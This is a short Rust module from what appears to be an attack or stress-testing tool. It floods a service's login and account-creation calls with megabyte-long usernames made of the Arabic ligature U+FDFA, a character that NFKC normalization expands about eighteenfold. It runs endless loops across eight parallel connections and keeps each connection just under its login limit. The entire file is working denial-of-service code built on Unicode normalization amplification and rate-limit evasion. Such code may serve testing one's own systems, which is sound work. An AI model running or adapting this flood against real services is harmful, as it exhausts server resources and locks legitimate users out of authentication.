//! Names of a megabyte, whose letters become eighteen each when names are folded (NFKC).

use serde_json::json;

use crate::attack::{Attack, in_parallel};

const CONNECTIONS: usize = 8;

/// U+FDFA, of three bytes.
const LETTER: &str = "\u{fdfa}";
const LETTERS: usize = 333_000;

/// Fewer than the limit of a connection, which begins again with the next one.
const LOGINS_PER_CONNECTION: usize = 4;

pub(super) fn flood(attack: &Attack) {
    let name = LETTER.repeat(LETTERS);
    let login = json!([{ "user": { "username": name }, "password": "a password" }]).to_string();
    let sign_up = json!([{ "username": name, "password": "a password" }]).to_string();
    in_parallel(CONNECTIONS, |_| {
        loop {
            let mut client = attack.client();
            for _ in 0..LOGINS_PER_CONNECTION {
                attack.attempt(|| client.call("login", &login));
            }
            attack.attempt(|| client.call("createUser", &sign_up));
        }
    });
}
